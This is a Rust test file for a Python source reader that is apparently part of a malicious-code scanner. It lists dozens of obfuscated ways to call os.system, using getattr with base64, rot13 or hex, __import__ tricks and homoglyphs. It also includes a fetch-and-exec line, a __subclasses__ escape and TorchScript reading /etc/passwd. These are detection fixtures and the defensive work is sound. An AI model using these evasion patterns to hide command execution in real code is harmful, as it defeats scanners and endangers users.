//! Tables of sources and what must be read from them.

use super::*;
use davy_artifact::{Fact, Manner, Role};
use davy_bytes::Bytes;

fn read(source: &[u8]) -> Reading {
    let bytes = Bytes::from_memory(source);
    let input = Input { bytes: &bytes, name: "x.py", role: Role::Present };
    let mut reading = Reading::default();
    Python
        .read(&input, &mut reading, &mut Budget::default())
        .expect("small sources are read whole");
    reading
}

#[test]
fn text_that_does_not_compile_is_source_only_by_its_name() {
    let markup = b"<?xml version='1.0'?>\n<!--\nimport os\nos.system('id')\n-->\n";
    let bytes = Bytes::from_memory(markup.as_slice());
    let try_as = |name, role| {
        let input = Input { bytes: &bytes, name, role };
        let mut reading = Reading::default();
        let read = Python.read(&input, &mut reading, &mut Budget::default());
        (read.is_ok(), reading.facts.is_empty())
    };
    assert_eq!(try_as("x.xml", Role::Present), (false, true));
    assert_eq!(try_as("x.py", Role::Present), (true, false));
    // A script may end where other bytes begin.
    assert_eq!(try_as("@suffix@0x10", Role::Leftover), (true, false));
}

/// The calls as pseudo-Python, those that wait for a call behind `later:`.
fn calls(source: &str) -> Vec<String> {
    let reading = read(source.as_bytes());
    let shown = |fact: &Fact| match fact {
        Fact::Call { call, .. } if call.manner == Manner::Deferred => {
            Some(format!("later: {call}"))
        }
        Fact::Call { call, .. } => Some(call.to_string()),
        _ => None,
    };
    reading.facts.iter().filter_map(shown).collect()
}

fn imports(source: &str) -> Vec<String> {
    let reading = read(source.as_bytes());
    let shown = |fact: &Fact| match fact {
        Fact::Import { name, by, .. } => Some(format!("{}:{} {by}", name.module, name.name)),
        _ => None,
    };
    reading.facts.iter().filter_map(shown).collect()
}

/// Whether some call runs `os.system('x')` (or has it in a later body, for `later`).
fn runs(source: &str) -> bool {
    calls(source).iter().any(|call| call == "os.system('x')")
}

#[test]
fn imports_keep_modules_names_and_dots() {
    assert_eq!(
        imports(
            "import a.b as c, d\nfrom ..p.q import (x as y,\n  z)\nfrom . import w\nfrom m import *\n"
        ),
        [
            "a.b: import statement",
            "d: import statement",
            "..p.q:x import statement",
            "..p.q:z import statement",
            ".:w import statement",
            "m:* import statement",
        ]
    );
    assert_eq!(
        imports("import os; x = os.system"),
        ["os: import statement", "os:system reference"]
    );
}

/// Sources that all call `os.system('x')` when they are imported.
const WAYS: &[&str] = &[
    "import os\nos.system('x')",
    "import os as o\no.system('x')",
    "import os, sys; os . system ( 'x' )",
    "import os\\\n as o\no.\\\nsystem('x')",
    "from os import system\nsystem('x')",
    "from os import system as s\ns('x')",
    "from os import *\nsystem('x')",
    "import os; f = os.system; f('x')",
    "import os; f = g = os.system; g('x')",
    "import os; f, n = os.system, 1; f('x')",
    "import os; f: object = os.system; f('x')",
    "import os; (f := os.system)('x')",
    "import os; [os.system][0]('x')",
    "import os; {'a': os.system}['a']('x')",
    "import os; {'a': os.system}.get('a')('x')",
    "import os; (os.system if 1 else 0)('x')",
    "import os; (0 or os.system)('x')",
    "import os; [f('x') for f in [os.system]]",
    "import os\nfor f in (os.system,): f('x')",
    "import os\nfor n, f in [(1, os.system)]: f('x')",
    "import os; getattr(os, 'sys' + 'tem')('x')",
    "import os; getattr(os, 'sys' 'tem')('x')",
    "import os; getattr(os, 'metsys'[::-1])('x')",
    "import os; getattr(os, ''.join(['sys', 'tem']))('x')",
    "import os; getattr(os, '%stem' % 'sys')('x')",
    "import os; getattr(os, '{}{}'.format('sys', 'tem'))('x')",
    "import os; getattr(os, f'sys{\"tem\"}')('x')",
    "import os; getattr(os, '\\x73ystem')('x')",
    "import os, base64; getattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
    "import os; getattr(os, bytes.fromhex('73797374656d').decode())('x')",
    "import os; getattr(os, chr(115) + 'ystem')('x')",
    "import os, codecs; getattr(os, codecs.decode('flfgrz', 'rot13'))('x')",
    "__import__('os').system('x')",
    "__import__('os.path').system('x')",
    "__builtins__.__import__('os').system('x')",
    "__builtins__['__import__']('os').system('x')",
    "import builtins as b; b.__import__('os').system('x')",
    "import importlib; importlib.import_module('os').system('x')",
    "from importlib import import_module as i; i('os').system('x')",
    "import sys; sys.modules['os'].system('x')",
    "import os; os.__dict__['system']('x')",
    "import os; vars(os)['system']('x')",
    "import os; globals()['os'].system('x')",
    "import os; os.system.__call__('x')",
    "import os; os.__getattribute__('system')('x')",
    "import os; print(f'{os.system(\"x\")}')",
    "import os; print(f\"{os.system(\"x\")!r:>{10}}\")",
    "import os\nclass A: os.system('x')",
    "import os\nclass A(os.system('x')): pass",
    "import os\ndef f(a=os.system('x')): pass",
    "import os\ndef f(a: os.system('x')): pass",
    "import os\n@os.system('x')\ndef f(): pass",
    "import os\nlambda a=os.system('x'): 0",
    "import os\ndef f(): os.system('x')\nf()",
    "import os\ndef f():\n  os.system('x')\ndef g(): f()\ng()",
    "import os\nclass A:\n  def __init__(self): os.system('x')\nA()",
    "import os\nclass A:\n  def go(self): os.system('x')\nA().go()",
    "import os\n(lambda: os.system('x'))()",
    "import os\ndef run(f): f()\n@run\ndef g(): os.system('x')",
    "import os\nclass A: pass\na = A(); a.f = os.system; a.f('x')",
    "import os\nx = 1 if os.system('x') else 2",
    "import os\nif os.system('x'): pass",
    "import os\nwhile True: os.system('x')",
    "import os\ntry:\n  pass\nexcept os.system('x'): pass",
    "import os\nwith os.system('x') as f: pass",
    "import os\nassert os.system('x')",
    "import os\nx[os.system('x')] = 1",
    "import os\nmatch 1:\n  case 1: os.system('x')",
    "import os # comment\rcomment = os.system('x')",
    "if 1:\n\x0c  import os\n  os.system('x')",
    "\u{feff}import os\nos.system('x')",
    "import 𝓸𝓼\nｏｓ.ｓｙｓｔｅｍ('x')",
    "def f(): os.system('x')\nimport os\nf()",
    "print 'python 2'\nimport os\nos.system('x')",
    "import os\nif 0: os = None\nos.system('x')",
    "x: lambda: 1 = 5\nimport os\nos.system('x')",
    "import functools, os; functools.partial(os.system, 'y')('x')",
    "import pkgutil; pkgutil.resolve_name('os:system')('x')",
    "def f(): 0\nf.__globals__['os'].system('x')",
];

#[test]
fn every_way_to_the_same_call_is_followed() {
    for way in WAYS {
        assert!(runs(way), "{way:?}: {:?}", calls(way));
    }
}

#[test]
fn what_waits_for_a_call_is_told_apart() {
    let later = [
        "import os\ndef f(): os.system('x')",
        "import os\nasync def f():\n  if 1:\n    os.system('x')\n",
        "import os\nf = lambda: os.system('x')",
        "import os\nclass A:\n  def f(self): return os.system('x')",
        "import os\nif __name__ == '__main__':\n    os.system('x')",
        "import os\ndef f():\n  def g(): os.system('x')\n  g()",
    ];
    for source in later {
        assert_eq!(calls(source).last().unwrap(), "later: os.system('x')", "{source:?}");
    }
    assert!(runs("import os\ndef f(): pass\nos.system('x')"));
    assert!(runs("import os\nf = lambda: 0\nos.system('x')"));
    assert!(runs("import os\nif __name__ == '__main__':\n  pass\nos.system('x')"));
}

#[test]
fn arguments_are_kept_where_they_are_constant() {
    let source = "import a\na.f('x' 'y' + 'z', b'\\0', -1, 2.5, None, True, [1, (2,)], {'k': 1}, g(), k='v', *q)";
    assert_eq!(
        calls(source),
        [
            "a.f('xyz', b'\\x00', -1, 2.5, None, True, [1, [2]], {'k': 1}, <an expression>, <an expression>, k='v')"
        ]
    );
    assert_eq!(
        calls("import requests\nexec(requests.get('http://h').text)"),
        ["requests.get('http://h')", "exec(requests.get('http://h').text)"]
    );
    assert_eq!(
        calls("().__class__.__base__.__subclasses__()[7]('x')"),
        [
            "<an expression>.__class__.__base__.__subclasses__()",
            "<an expression>.__class__.__base__.__subclasses__()('x')"
        ]
    );
}

#[test]
fn what_only_looks_like_a_call_is_none() {
    let silent = [
        "x = 'import os; os.system(1)'",
        "'''\nimport os\nos.system('x')\n'''",
        "# import os; os.system('x')",
        "def system(a): return a\nsystem('x')",
        "def f(open): open('x')",
        "def f(eval):\n  return [eval(x) for x in 'abc']",
        "class A:\n  def exec(self): pass\nA().exec('x')",
        "def f(self): self.model.eval()",
        "re = {}\nre.compile('x')",
    ];
    for source in silent {
        assert_eq!(calls(source), Vec::<String>::new(), "{source:?}");
    }
    assert_eq!(calls("import re\nre.compile('x')"), ["re.compile('x')"]);
    assert_eq!(calls("x = y + 1\nexec(x)"), ["exec(<an expression>)"]);
}

#[test]
fn torchscript_is_read_as_python() {
    let source = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    _0 = torch.from_file(\"/etc/passwd\", True, 10)\n    _1 = ops.aten.save(CONSTANTS.c0, \"/tmp/x\")\n    return torch.add(x, CONSTANTS.c0)\n";
    assert_eq!(
        calls(source),
        [
            "later: torch.from_file('/etc/passwd', True, 10)",
            "later: ops.aten.save(CONSTANTS.c0, '/tmp/x')",
            "later: torch.add(<an expression>, CONSTANTS.c0)"
        ]
    );
}

#[test]
fn type_comments_that_call_are_told() {
    let told = calls("def f(x):\n  # type: (__import__('os').system('x')) -> int\n  pass\n");
    assert!(told.iter().any(|call| call.contains("parse_type_line")), "{told:?}");
    assert!(
        calls("def f(x):\n  # type: (Tensor, List[int]) -> Tuple[int, str]\n  pass\n").is_empty()
    );
    assert!(calls("x = 1  # type: ignore[foo]\n").is_empty());
}

#[test]
fn source_in_constants_becomes_an_artifact() {
    let reading = read(b"exec('import os\\nos.system(1)')\neval(b'a.b()')\nexec(x)\n");
    let names: Vec<&str> = reading.children.iter().map(|child| child.name.as_str()).collect();
    assert_eq!(names, ["0x0.py", "0x20.py"]);
    let encoded =
        read(b"import base64, zlib\nexec(base64.b64decode('aW1wb3J0IG9z').decode('utf-8'))");
    let child = encoded.children.first().expect("decoded source");
    assert_eq!(child.bytes.copy(Span::new(0, 99), 99).unwrap(), b"import os");
    assert_eq!(read(b"exec 'import os'").children.len(), 1);
}

#[test]
fn monkey_patches_are_assignments() {
    let reading = read(b"import os\nos.path.join = os.system\nself.x = 1\n");
    let assigned = reading.facts.iter().filter(|fact| matches!(fact, Fact::Assign { .. })).count();
    assert_eq!(assigned, 1);
}

#[test]
fn faults_are_gaps_and_lose_nothing_before_them() {
    let reading = read(b"import os\nos.system('x')\nx = '''never ends\nimport sys\n");
    assert_eq!(reading.facts.len(), 2);
    let gap = reading.gaps.first().expect("a gap");
    assert_eq!((gap.span.start, gap.what.as_str()), (29, "unterminated string"));
    assert_eq!(read(b"x = 'a\nimport os\n").facts.len(), 1);
    assert_eq!(read(b"# -*- coding: utf-7 -*-\n").gaps.len(), 1);
    assert_eq!(read(b"# -*- coding: latin-1 -*-\nx = 1\n").gaps.len(), 0);
    assert_eq!(read(b"x = (1\n").gaps.len(), 1);
    assert_eq!(read(b"x = 1)\n").gaps.len(), 1);
}

#[test]
fn probing_tells_code_from_prose_and_data() {
    let probe_as = |name: &str, head: &[u8], role| {
        let bytes = Bytes::from_memory(head);
        Python.probe(head, &Input { bytes: &bytes, name, role })
    };
    let probe = |name: &str, head: &[u8]| probe_as(name, head, Role::Present);
    for code in [
        "import os, sys\n",
        "#!/usr/bin/python\n\nfrom os import system\n",
        "def f(x):\n  pass\n",
        "__import__('os').system('x')",
        "exec 'x'",
    ] {
        assert_eq!(probe("data", code.as_bytes()), Probe::Possible, "{code:?}");
    }
    for other in [
        "key = value\nother = 3\n",
        "{\"import\": \"os\"}",
        "From time to time we import things.\n",
        "import things from abroad and be happy\n",
        "# A heading\n\nSome text (with brackets) in it.\n",
        "",
    ] {
        assert_eq!(probe("data", other.as_bytes()), Probe::No, "{other:?}");
    }
    let call = b"x = open('y')\n";
    assert_eq!(probe("data", call), Probe::No);
    assert_eq!(probe_as("data", call, Role::Loaded), Probe::Possible);
    assert_eq!(probe("x.py", b"1"), Probe::Possible);
    assert_eq!(probe("x.py", b"\x80\x04\x00."), Probe::No);
}

const SAMPLE: &str = "import os, base64 as b\nfrom .x import (y as z,)\nclass A(B, metaclass=C):\n    a: int = 1\n    @deco(1)\n    def f(self, x=lambda q: q + 1, *a, **k) -> int:\n        '''doc'''\n        return f\"{x!r:>{w}} {{}} {os.system(f'{y}')}\" % [i for i in {1: 2, **d} if i][::-1]\ntry:\n\tgetattr(os, 'sys' + b.b64decode('dGVt').decode())(0x1F, 1e-3j, rb'\\x00', k=1)\nexcept (E, F) as e: x += 1; del e\n";

#[test]
fn truncated_and_damaged_source_is_read_without_panic() {
    let sample = SAMPLE.as_bytes();
    for end in 0..sample.len() {
        read(&sample[..end]);
    }
    for at in 0..sample.len() {
        for byte in
            [0, b'\n', b'(', b']', b'\'', b'"', b'{', b':', b'\\', b'=', 0x80, sample[at] ^ 1]
        {
            let mut damaged = sample.to_vec();
            damaged[at] = byte;
            read(&damaged);
        }
    }
}

#[test]
fn large_pathological_source_is_read_to_its_end() {
    const SIZE: usize = 256 << 10;
    let repeat = |unit: &str| unit.repeat(SIZE / unit.len());
    let sources = [
        repeat("("),
        repeat("["),
        repeat("{"),
        repeat(")"),
        repeat("f'{"),
        repeat("lambda:"),
        repeat("lambda "),
        repeat("a."),
        repeat("a("),
        repeat("a()"),
        repeat("a[0]"),
        repeat("'a'+"),
        repeat("'a' "),
        repeat("class A:"),
        repeat("def f():"),
        repeat("if x:"),
        repeat("\\\n"),
        repeat("\n "),
        repeat("x=x+x\n"),
        repeat("x=[x]\n"),
        repeat("@a\n"),
        repeat("import a\n"),
        repeat("from a import*\n"),
        repeat("a=b="),
        repeat("global x\n"),
        repeat("a,"),
        repeat("-"),
        repeat("for a in "),
        repeat("'''"),
        repeat("\"\"\"f"),
        format!("x={}\n{}", repeat("1,"), "y=x;y=[x]\n".repeat(6_000)),
        format!("x=[{}]\n{}", "'',".repeat(25_000), "''.join(x)\n".repeat(6_000)),
        format!("d={{{}}}\n{}", "1:2,".repeat(12_000), "d[3]\n".repeat(12_000)),
        format!("s='{}'\n{}", "a".repeat(SIZE), "t=s+'b'\n".repeat(6_000)),
        format!("s='{}'\n{}", "a".repeat(SIZE), "os.f(s)\n".repeat(6_000)),
        (0..12_000).map(|n| format!("v{}=[v{n}]\n", n + 1)).collect(),
        (0..12_000).map(|n| format!("def f{}():f{n}()\n", n + 1)).collect(),
        (0..95).map(|n| format!("{}class A{n}:\n", " ".repeat(n))).collect::<String>()
            + &" ".repeat(95)
            + &"a;".repeat(60_000),
    ];
    for source in sources {
        read_any(source.as_bytes());
    }
}

fn read_any(source: &[u8]) {
    let bytes = Bytes::from_memory(source);
    let input = Input { bytes: &bytes, name: "x.py", role: Role::Present };
    let mut reading = Reading::default();
    let halted = Python.read(&input, &mut reading, &mut Budget::default());
    assert!(halted.is_ok() || source.len() > 4 << 20);
}
